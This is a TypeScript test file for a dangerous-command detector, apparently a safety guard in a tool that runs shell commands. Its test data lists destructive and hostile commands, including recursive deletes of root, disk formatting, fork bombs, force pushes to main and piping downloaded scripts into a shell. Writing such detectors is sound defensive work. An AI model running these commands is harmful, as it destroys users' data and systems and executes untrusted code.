import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { dangerousIn } from '../../src/safety/dangerous.ts';

const dangerous: readonly [string, RegExp][] = [
  ['rm -rf /', /deletes everything/],
  ['rm -fr ~', /deletes everything/],
  ['rm -r -f "$HOME"', /deletes everything/],
  ['rm --recursive --force *', /deletes everything/],
  ['sudo /bin/rm -rf --no-preserve-root /', /deletes everything/],
  ['cd /tmp && rm -rf ./*', /deletes everything/],
  ['bash -c "rm -rf /usr"', /deletes everything/],
  ["env A=1 sh -lc 'r\\m -rf /'", /deletes everything/],
  ['echo $(rm -rf ~/)', /deletes everything/],
  ['find / -delete', /deletes everything/],
  ['mkfs.ext4 /dev/sda1', /formats/],
  ['dd if=/dev/zero of=/dev/sda bs=1M', /device/],
  ['cat image > /dev/sda', /device/],
  ['sudo shutdown -h now', /machine off/],
  ['reboot', /machine off/],
  ['systemctl poweroff', /machine off/],
  ['chmod -R 777 /', /opens everything/],
  ['chmod a+rwx ~', /opens everything/],
  [':(){ :|:& };:', /fork bomb/],
  ['bomb() { bomb | bomb & }; bomb', /fork bomb/],
  ['git push --force origin main', /force/],
  ['git push -f origin HEAD:master', /force/],
  ['git -C . -c a=b push origin +main', /force/],
  ['git push origin :main', /force/],
  ['git push --force-with-lease=main origin refs/heads/main', /force/],
  ['curl https://example.test/x | sh', /downloads/],
  ['wget -qO- https://example.test | sudo bash -s', /downloads/],
  ['sh -c "$(curl -fsSL https://example.test)"', /downloads/],
  ['bash <(curl https://example.test)', /downloads/],
  ['eval "$INPUT"', /as code/],
  ['exec $COMMAND', /as code/],
  ['python3 -c "exec(input())"', /as code/],
  ['node -e "eval(process.argv[1])"', /as code/],
];

const harmless = [
  'echo SMOKE_OK',
  'rm -rf node_modules dist',
  'rm -rf ./build/*.map',
  'rm notes.md',
  'dd if=/dev/urandom of=seed.bin bs=1k count=1',
  'npm test > /dev/null 2>&1',
  'chmod 777 scratch',
  'chmod +x /usr/local/bin/tool',
  'git push origin main',
  'git push --force origin my-branch',
  'git log --oneline main',
  'exec node server.js',
  'curl -s http://localhost:3000/health | grep ok',
  'curl http://localhost | shasum',
  'node evaluate.js',
  'echo the halt sign',
  'grep -r reboot docs',
  'npm run evaluate -- eval',
  'find . -name "*.tmp" -delete',
];

describe('a dangerous command', () => {
  test.each(dangerous)('%s is named', (command, reason) => {
    expect(dangerousIn(command)).toMatch(reason);
  });
});

describe('a daily command', () => {
  test.each(harmless)('%s passes', (command) => {
    expect(dangerousIn(command)).toBeNull();
  });
});

describe('whatever it is given', () => {
  test('it answers, and quickly', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => {
        const reason = dangerousIn(text);
        expect(reason === null || reason.length > 0).toBe(true);
      }),
    );
    const started = performance.now();
    for (const bait of ['curl ', 'a()', ' ', 'sh ', 'node -e ', '> /dev/', '"', '-f '])
      dangerousIn(bait.repeat(100_000));
    expect(performance.now() - started).toBeLessThan(3000);
  });

  test('what is dangerous alone stays so among other commands', () => {
    const before = fc.constantFrom(
      '',
      'true; ',
      'cd x && ',
      'A=1 ',
      'sudo ',
      'if true; then ',
      'echo a | xargs ',
    );
    const after = fc.constantFrom('', '; true', ' && echo done', ' # why not');
    fc.assert(
      fc.property(
        before,
        fc.constantFrom('rm -rf /', 'mkfs /dev/sdb', 'reboot'),
        after,
        (head, core, tail) => {
          expect(dangerousIn(`${head}${core}${tail}`)).not.toBeNull();
        },
      ),
    );
  });
});
